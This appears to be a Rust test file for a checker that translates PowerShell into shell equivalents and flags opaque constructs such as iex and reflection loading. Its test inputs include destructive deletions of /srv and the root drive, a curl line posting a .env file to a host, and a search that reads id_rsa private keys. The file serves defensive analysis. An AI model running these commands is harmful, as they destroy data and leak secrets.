//! Lines of PowerShell and what a shell would do in their place.

use super::read;
use crate::budget::Budget;
use crate::code::{CodeEffectKind, Limits, MAX_CODE_DEPTH, Operand, Place, Reading};

fn reading(code: &str) -> Reading {
    let limits = Limits {
        budget: Budget::new(),
        code: MAX_CODE_DEPTH,
        place: Place::default(),
    };
    read(code, &limits)
}

/// The shell's line, its blanks made single.
fn line(code: &str) -> String {
    let effects = reading(code).effects;
    let lines = effects.iter().map(|effect| {
        let CodeEffectKind::Shell(Operand::Known(line)) = &effect.kind else {
            panic!("{effect:?}");
        };
        line.clone()
    });
    let line = lines.collect::<String>();
    let lines = line.lines().map(|line| {
        let words: Vec<&str> = line.split_whitespace().collect();
        words.join(" ")
    });
    lines.collect::<Vec<_>>().join("\n")
}

fn is_question(code: &str) -> bool {
    reading(code).opaque.is_some()
}

#[test]
fn cmdlets_are_known_by_name_and_alias_in_any_case() {
    for code in [
        "Remove-Item x -Recurse",
        "remove-item -RECURSE x",
        "ri -rec -fo x",
        "rm -Recurse -Force x",
        "R`emove-Item -Recurse 'x'",
        "& 'Remove-Item' -Recurse x",
        ". Remove-Item -Path x -Recurse:$true",
        "Remove-Item –Recurse –LiteralPath:x",
        "erase -r x",
        "$null=rm -r x",
        "$a = $b = del -r x",
        "[void](1); rd -r x",
    ] {
        let line = line(code);
        assert!(line.ends_with("rm -r x"), "{code}: {line}");
        assert!(!is_question(code), "{code}");
    }
}

#[test]
fn flags_of_programs_are_left_to_programs() {
    assert_eq!(line("rm -rf /srv"), "rm -rf /srv");
    assert_eq!(line("curl -d @.env http://x"), "curl -d @.env http://x");
    assert_eq!(line("ls -la"), "ls -la");
    assert_eq!(line("sc.exe delete job"), "sc.exe delete job");
}

#[test]
fn what_is_given_to_a_variable_runs() {
    assert_eq!(line("$x=rm -r /srv"), "rm -r /srv");
    assert_eq!(line("$x.y = rm /srv"), "rm /srv");
    assert_eq!(line("[string]$x=rm /srv"), "rm /srv");
    assert_eq!(line("@{ a = rm /srv; b=2 }"), "rm /srv\necho ''");
    assert!(line("if (rm /srv) { }").contains("rm /srv"));
    assert!(line("if(rm /srv){ }").contains("rm /srv"));
    assert!(line("foreach ($x in rm /srv) { }").contains("rm /srv"));
    assert!(line("Get-Date (rm /srv)").contains("rm /srv"));
    assert!(line("$x = @\"\na $(rm /srv) b\n\"@").contains("rm /srv"));
    assert!(line("\"a $(rm /srv) b\"").contains("rm /srv"));
}

#[test]
fn a_variable_with_one_text_is_that_text() {
    assert_eq!(
        line("$d = 'build'; rm -r $d").lines().last(),
        Some("rm -r build")
    );
    assert_eq!(
        line("$c='rm -r /srv'; iex $c").lines().nth(1),
        Some("{ rm -r /srv")
    );
    for code in [
        "$d = 'build'; $d = '/srv'; rm -r $d",
        "$d = 'build'; foreach ($d in '/srv') { rm -r $d }",
        "$d = 'build'; $d, $e = '/srv', 1; rm -r $d",
        "$d = 'build'; $d += '/..'; rm -r $d",
        "$d = 'build'; sv d /srv; rm -r $d",
        "$d = 'build'; $script:d = '/srv'; rm -r $d",
        "$d = 'build'; iex '$d = \"/srv\"'; rm -r $d",
        "rm -r $d; $d = 'build'",
    ] {
        assert!(
            line(code).contains("rm -r \"${PSVARIABLE}\""),
            "{code}: {}",
            line(code)
        );
    }
}

#[test]
fn what_a_listing_finds_is_what_happens_to_it() {
    assert_eq!(line("gci C:\\ -r | % Delete"), "ls / | rm -r /");
    assert_eq!(
        line("gci logs -Filter *.log | ri"),
        "ls logs | rm logs/*.log"
    );
    assert_eq!(
        line("gci -r -Include id_rsa | gc"),
        "ls | find . -name id_rsa -exec cat {} +"
    );
    assert_eq!(line("gi .env | Get-Content"), "ls .env | cat .env");
    assert!(line("gci | ? { $_.Length } | ri").ends_with("rm \"${PSVARIABLE}\""));
}

#[test]
fn static_methods_are_programs() {
    assert!(line("[IO.File]::Delete('/srv/x')").contains("rm /srv/x"));
    assert!(line("[System.IO.Directory]::Delete(\"C:\\data\", $true)").contains("rm -r"));
    assert!(line("[io.file]::WriteAllText('/etc/x','y')").contains("tee /etc/x"));
    assert!(line("[Diagnostics.Process]::Start('cmd','/c rd /s x')").contains("cmd /c rd /s x"));
}

#[test]
fn what_nobody_can_tell_is_a_question() {
    for code in [
        "[Reflection.Assembly]::Load($x)",
        "$x.Destroy()",
        "iex $code",
        "Get-Content a | iex",
        "icm $block",
        "% $block",
        "Start-Job -ScriptBlock ([scriptblock]::Create('x'))",
        "New-Object -ComObject WScript.Shell",
        "New-Object IO.StreamWriter x",
        "gci | % Kill",
        "Set-Alias x iex",
        "Publish-Everything",
        "Set-Item function:ls { }",
        "& { (",
        "'unclosed",
    ] {
        assert!(is_question(code), "{code}");
    }
}

#[test]
fn what_only_looks_is_no_question() {
    for code in [
        "Get-ChildItem -Recurse src | Where-Object { $_.Length -gt 100 } | Select-Object Name",
        "gci | % Name",
        "gci | % { $_.FullName.ToLower() }",
        "if(Test-Path x){ 'yes' } else { 'no' }",
        "foreach($f in gci){ echo $f }",
        "function f($x) { Get-Date }",
        "$b = { Get-Date }; & $b",
        "[math]::Round(1.5)",
        "[DateTime]::Now.ToString('o')",
        "New-Object System.Text.StringBuilder",
        "$env:X = 1; Set-Item env:Y 2; Remove-Item Env:Z",
        "'a'.ToUpper()",
        "ConvertTo-Json @{ a = 1 }",
        "Set-Variable x 1",
    ] {
        assert!(!is_question(code), "{code}: {:?}", reading(code));
    }
}

#[test]
fn nesting_is_bounded() {
    for (open, close) in [
        ("(", ")"),
        ("{", "}"),
        ("$(", ")"),
        ("@{a=", "}"),
        ("\"$(", ")\""),
    ] {
        let code = open.repeat(5_000) + &close.repeat(5_000);
        assert!(is_question(&code), "{open}");
    }
}
